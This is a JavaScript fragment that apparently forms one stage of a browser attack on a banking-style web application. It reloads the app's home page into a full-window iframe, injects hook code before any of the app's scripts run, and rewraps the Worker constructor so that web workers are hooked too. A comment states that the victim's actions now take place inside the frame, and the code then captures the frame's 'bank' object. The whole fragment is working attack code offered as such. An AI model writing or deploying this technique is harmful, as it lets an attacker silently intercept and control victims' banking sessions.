// A2b: the application once more, in a frame that fills the window, with hooks in it before its first line runs. A new window
// has modules of its own; writing into the old one would leave those that run already. Workers are started with the hooks in
// front of their own source; what they fetch by a path alone is completed, since a blob has no host.
const again = async (source) => {
  // As a stranger: a page of the application is the same for everybody.
  const page = await (await home(location.origin + "/", { credentials: "omit" })).text();
  const patch = `<base href="${location.origin}/"><script>(() => {
${source}
hook(window);
const Real = window.Worker;
window.Worker = class extends Real {
  constructor(url, options) {
    const asked = new XMLHttpRequest();
    asked.open("GET", url, false);
    asked.send();
    super(URL.createObjectURL(new Blob([${JSON.stringify(source)}, ";{ const plain = self.fetch; self.fetch = (input, init) => plain(typeof input === 'string' ? new URL(input, '${location.origin}').href : input, init); } hook(self);", asked.responseText.replaceAll('from "/', 'from "${location.origin}/')], { type: "text/javascript" })), options);
  }
};
})();</` + `script>`;
  const frame = document.createElement("iframe");
  frame.style.cssText = "position:fixed;inset:0;width:100%;height:100%;border:0;background:white";
  document.body.replaceChildren(frame);
  const inside = frame.contentDocument;
  inside.open();
  inside.write(page.replace("<head>", () => "<head>" + patch));
  inside.close();
  // What the victim presses from now on is in the frame.
  await new Promise((there) => { const look = () => (frame.contentWindow.bank ? there() : setTimeout(look, 20)); look(); });
  window.bank = frame.contentWindow.bank;
  window.anew = true;
};
